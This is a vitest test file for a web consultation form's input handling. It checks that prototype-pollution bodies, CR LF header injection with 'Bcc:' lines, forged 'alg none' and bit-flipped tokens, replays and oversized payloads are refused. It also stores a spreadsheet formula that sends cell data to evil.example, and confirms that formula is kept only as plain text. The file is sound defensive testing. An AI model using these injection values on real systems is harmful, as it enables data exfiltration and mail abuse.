import { randomUUID } from 'node:crypto';
import { expect, test } from 'vitest';
import { ask } from '../test/http.ts';
import { confirmationId } from './confirmation-id.ts';
import { signToken } from './form-token.ts';
import { makeKeyring } from './keyring.ts';
import { goodAnswers, keyring, post, referenceIn, startForm, tokenOf } from './test/harness.ts';

/*
 * Bad input by class, one by one: each is refused in words, with the phone number, and gives back what was typed wherever it
 * could be read; or it is taken as the plain text that it is. Nothing that is refused reaches the CMS.
 */

interface Case {
  body: () => Record<string, string> | string;
  headers?: Record<string, string>;
  status: number;
  /** Whether the form that comes back holds what was typed; false: the body could not be read. */
  keeps?: boolean;
  /** What the CMS must have been handed, when it is taken. */
  taken?: Record<string, unknown>;
}

const plus = (more: string) => () => `${new URLSearchParams(goodAnswers()).toString()}&${more}`;
const json = (more: Record<string, unknown>): Case => ({
  body: () => JSON.stringify({ ...goodAnswers(), ...more }),
  headers: { 'content-type': 'application/json' },
  status: 400,
});
const changed = (changes: Record<string, string>) => () => goodAnswers(changes);
const withToken = (token: () => string): Case => ({
  body: () => goodAnswers({ form: token() }),
  status: 422,
});
const ofType = (type: string): Case => ({
  body: () => new URLSearchParams(goodAnswers()).toString(),
  headers: { 'content-type': type },
  status: 415,
  keeps: false,
});
const formula = '=HYPERLINK("http://evil.example?"&A1,"Click")';
const payloadOf = (token: string) => token.split('.')[0] ?? '';
const none = Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url');
const day = 24 * 60 * 60;

const forms: Record<string, Case> = {
  'arrays: a name twice': { body: plus('name=Eve'), status: 400 },
  'arrays: a name as a list': { ...json({ name: ['Zoë O’Hara'] }), status: 400 },
  'arrays: a list as the whole': {
    ...json({}),
    body: () => '[{"name":"Zoë O’Hara"}]',
    status: 422,
    keeps: false,
  },
  'arrays: days with an object': json({ days: [{ $ne: 'Monday' }] }),
  'arrays: brackets in a key': { body: plus('name[]=Eve&days[0]=Monday'), status: 400 },
  'prototypes: __proto__ in a form': { body: plus('__proto__=x&constructor=y'), status: 400 },
  'prototypes: __proto__ in JSON': {
    ...json({}),
    body: () => '{"__proto__":{"name":"Eve"},"name":"Zoë O’Hara"}',
    keeps: false,
  },
  'prototypes: constructor in JSON': {
    ...json({}),
    body: () => '{"constructor":{"prototype":{"name":"Eve"}}}',
    keeps: false,
  },
  'extra keys: in a form': { body: plus('stage=booked'), status: 400 },
  'extra keys: in JSON': json({ suspectedSpam: 'false', idempotencyKey: 'x' }),
  'CR LF: in a name': {
    body: changed({ email: 'a@b.org', name: 'Zoë O’Hara\r\nBcc: x@y.org' }),
    status: 422,
  },
  'CR LF: in a phone number': { body: changed({ phone: '310 828 7757\r\nx' }), status: 422 },
  'CR LF: in an e-mail address': { body: changed({ email: 'a@b.org\r\nBcc: x@y.org' }), status: 422 },
  'CR LF: in a message, where lines belong': {
    body: changed({ message: 'One\r\nTwo' }),
    status: 303,
    taken: { message: 'One\nTwo' },
  },
  'formulas: as a name': { body: changed({ name: formula }), status: 303, taken: { name: formula } },
  'formulas: as a message': {
    body: changed({ message: '@SUM(1)' }),
    status: 303,
    taken: { message: '@SUM(1)' },
  },
  'impossible dates: as a day': { body: changed({ days: '2026-02-31' }), status: 422 },
  'impossible dates: as a time of day': { body: changed({ times: '25:61' }), status: 422 },
  'impossible dates: as the time of the form': withToken(() =>
    signToken(keyring, { key: randomUUID(), issuedAt: NaN, sourcePage: '/' }),
  ),
  'megabytes: a name': { body: changed({ name: 'a'.repeat(1_000_000) }), status: 413, keeps: false },
  'megabytes: a thousand fields': {
    body: plus(Array.from({ length: 1001 }, (_, index) => `f${index}=x`).join('&')),
    status: 400,
  },
  'megabytes: JSON nested deep': {
    ...json({}),
    body: () => `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
    status: 422,
    keeps: false,
  },
  'megabytes: a message that is too long by far, in letters of nine bytes': {
    body: changed({ message: '痛'.repeat(6_000) }),
    status: 422,
  },
  'wrong content type: plain text': ofType('text/plain'),
  'wrong content type: multipart': ofType('multipart/form-data; boundary=x'),
  'wrong content type: XML': ofType('application/xml'),
  'wrong content type: JSON that is a form': { ...ofType('application/json'), status: 400 },
  'wrong content type: a form that is JSON': {
    body: () => JSON.stringify(goodAnswers()),
    status: 422,
    keeps: false,
  },
  'replays: of a form of the day before yesterday': withToken(() => tokenOf(randomUUID(), 2 * day)),
  'tokens: alg none': withToken(() => `${none}.${payloadOf(tokenOf())}.`),
  'tokens: alg none in two parts': withToken(() => `${none}.${payloadOf(tokenOf())}`),
  'tokens: no signature': withToken(() => `${payloadOf(tokenOf())}.`),
  'tokens: expired': withToken(() => tokenOf(randomUUID(), day + 1)),
  'tokens: of the future': withToken(() => tokenOf(randomUUID(), -day)),
  "tokens: another server's": withToken(() =>
    signToken(makeKeyring('77'.repeat(32)), {
      key: randomUUID(),
      issuedAt: Date.now() - 9000,
      sourcePage: '/',
    }),
  ),
  'tokens: a signature for another use': withToken(() =>
    confirmationId(keyring, { reference: 'KX7-4QM-R9T', dueAt: null }, new Date()),
  ),
  'tokens: of another form than the payload': withToken(
    () => `${payloadOf(tokenOf())}.${tokenOf().split('.')[1] ?? ''}`,
  ),
  'tokens: missing': { body: changed({ form: '' }), status: 422 },
  'tokens: a megabyte': {
    body: changed({ form: `${'a'.repeat(30_000)}.${'b'.repeat(30_000)}` }),
    status: 422,
  },
};

test.each(Object.entries(forms))('%s', async (_what, { body, headers, status, keeps, taken }) => {
  const { origin, intake } = await startForm();
  const answer = await post(origin, body(), headers);
  expect(answer.status).toBe(status);
  expect(Object.prototype).not.toHaveProperty('name');
  if (taken !== undefined) {
    await expect.poll(() => [...intake.taken.values()]).toMatchObject([taken]);
    return;
  }
  const html = await answer.text();
  expect(html).toContain('<title>Error: Ask | Harbor</title>');
  expect(html).toMatch(/role="alert"[^>]*autofocus/);
  if (keeps !== false) expect(html).toMatch(/<input name="(name|phone)"[^>]* value="/);
  // What may be wrong with a field needs no call; what may be wrong with the way here does.
  if (!html.includes('There is a problem')) expect(html).toContain('(555) 010-0199');
  expect(intake.posts()).toBe(0);
});

test('replays: of a form that was taken give the same reference, and are one request', async () => {
  const { origin, intake } = await startForm();
  const answers = goodAnswers();
  const references = new Set<string>();
  for (let sent = 0; sent < 5; sent += 1)
    references.add(await referenceIn(origin, await post(origin, answers)));
  expect(references.size).toBe(1);
  await expect.poll(() => intake.taken.size).toBe(1);
  expect((await post(origin, { ...answers, name: 'Eve' })).status).toBe(409);
});

/** The same text with one letter changed, for each letter whose change alters what it says. */
function flips(signed: string): string[] {
  const [payload = '', signature = ''] = signed.split('.');
  return Array.from(signed, (letter, index) => {
    const flipped = `${signed.slice(0, index)}${letter === 'A' ? 'B' : 'A'}${signed.slice(index + 1)}`;
    // The last letter of base64 carries bits that say nothing.
    const same =
      flipped.startsWith(`${payload}.`) &&
      Buffer.from(flipped.slice(payload.length + 1), 'base64url').equals(Buffer.from(signature, 'base64url'));
    return same ? [] : [flipped];
  }).flat();
}

test('bit flips: nothing changed is taken for what was signed', { timeout: 120_000 }, async () => {
  const { origin, intake } = await startForm();
  for (const form of flips(tokenOf()))
    expect((await post(origin, goodAnswers({ form }))).status, form).toBe(422);
  for (const id of flips(confirmationId(keyring, { reference: 'KX7-4QM-R9T', dueAt: null }, new Date()))) {
    const page = await ask(origin, `/consultation/received/?id=${id}`);
    expect(page.body.toString(), id).toContain('Nothing here.');
  }
  expect(intake.posts()).toBe(0);
});

const week = 7 * day * 1000;
const confirmation = { reference: 'KX7-4QM-R9T', dueAt: null };
const ids: Record<string, () => string> = {
  'alg none': () => `${none}.${Buffer.from('{"reference":"KX7-4QM-R9T"}').toString('base64url')}.`,
  expired: () => confirmationId(keyring, confirmation, new Date(Date.now() - week - 1000)),
  "another server's": () => confirmationId(makeKeyring('77'.repeat(32)), confirmation, new Date()),
  'of a form': () => tokenOf(),
  missing: () => '',
};
test.each(Object.entries(ids))('a confirmation whose id is %s shows nothing', async (_what, id) => {
  const { origin } = await startForm();
  const page = await ask(origin, `/consultation/received/?id=${id()}`);
  expect(page.body.toString()).toContain('Nothing here.');
});
